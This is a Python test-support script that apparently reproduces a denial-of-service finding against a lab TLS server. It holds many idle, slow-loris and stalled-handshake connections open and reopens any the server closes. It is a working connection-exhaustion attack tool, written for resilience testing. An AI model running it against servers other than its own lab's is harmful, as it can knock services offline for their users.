"""Slow and idle clients against a TLS server (finding H1), all held by one asyncio thread:

- ``idle``: TCP connections that send nothing;
- ``loris``: TLS connections (no client certificate) that trickle a request head, one header
  line per ``--trickle`` seconds, never ending it;
- ``stuck``: TCP connections that send a real ClientHello and then nothing (a handshake that
  never finishes).

Every connection the server closes is opened again after ``--backoff`` seconds, so the
pressure stays for ``--seconds``; then the script prints one JSON line of counts and exits.
It prints ``ready`` once every connection was opened the first time (TCP connected; for
slow-loris, TLS established), ``not ready: …`` if some could not be; a server that cannot
accept them never makes it print either.

    python tests/support/slow_clients.py HOST PORT --idle 200 --loris 50 --stuck 50 --seconds 30

Only for the lab's own addresses (loopback or a lab namespace).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import ssl
import sys
import time
from collections import Counter

KINDS = ("idle", "loris", "stuck")


def _client_hello() -> bytes:
    """The first flight of a TLS client, made in memory."""
    ctx = ssl.create_default_context()
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_side=False)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


class Attack:
    def __init__(self, host: str, port: int, args: argparse.Namespace) -> None:
        self.host, self.port, self.args = host, port, args
        self.end = time.monotonic() + args.seconds
        self.opened: Counter[str] = Counter()
        self.closed: Counter[str] = Counter()
        self.failed: Counter[str] = Counter()
        self.held: Counter[str] = Counter()
        self.hello = _client_hello()
        self.tls = ssl.create_default_context()
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE

    async def one(self, kind: str, first: asyncio.Future) -> None:
        while time.monotonic() < self.end:
            try:
                await asyncio.wait_for(self._hold(kind, first), self.end - time.monotonic())
            except (OSError, ssl.SSLError, asyncio.IncompleteReadError):
                self.failed[kind] += 1
            except TimeoutError:
                return
            finally:
                if not first.done():
                    first.set_result(False)  # its first connection failed
            await asyncio.sleep(self.args.backoff)

    async def _hold(self, kind: str, first: asyncio.Future) -> None:
        tls = self.tls if kind == "loris" else None
        reader, writer = await asyncio.open_connection(self.host, self.port, ssl=tls)
        self.opened[kind] += 1
        self.held[kind] += 1
        if not first.done():
            first.set_result(True)
        try:
            if kind == "stuck":
                writer.write(self.hello)
            if kind == "loris":
                writer.write(b"GET /api/v1/keys/x/status HTTP/1.1\r\nHost: km\r\n")
                i = 0
                while not reader.at_eof():
                    await asyncio.sleep(self.args.trickle)
                    writer.write(b"X-%d: %d\r\n" % (i, i))
                    await writer.drain()
                    i += 1
            else:
                while await reader.read(65536):  # whatever the server sends: wait for EOF
                    pass
            self.closed[kind] += 1
        finally:
            self.held[kind] -= 1
            writer.close()

    async def run(self) -> dict:
        tasks, firsts = [], []
        for kind in KINDS:
            for _ in range(getattr(self.args, kind)):
                fut = asyncio.get_running_loop().create_future()
                firsts.append(fut)
                tasks.append(asyncio.create_task(self.one(kind, fut)))
                await asyncio.sleep(0.002)  # a burst, not one SYN storm
        try:
            results = await asyncio.wait_for(asyncio.gather(*firsts), self.args.seconds)
            failed = results.count(False)
            print("ready" if not failed else f"not ready: {failed} first connections failed",
                  flush=True)
        except TimeoutError:
            pass
        held_at_ready = dict(self.held)
        await asyncio.gather(*tasks, return_exceptions=True)
        return {"opened": dict(self.opened), "closed_by_server": dict(self.closed),
                "failed": dict(self.failed), "held_at_ready": held_at_ready}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("host")
    p.add_argument("port", type=int)
    for kind in KINDS:
        p.add_argument(f"--{kind}", type=int, default=0)
    p.add_argument("--seconds", type=float, default=30.0)
    p.add_argument("--trickle", type=float, default=1.0)
    p.add_argument("--backoff", type=float, default=0.2)
    args = p.parse_args()
    if args.seconds > 600:
        sys.exit("--seconds: at most 600")
    out = asyncio.run(Attack(args.host, args.port, args).run())
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
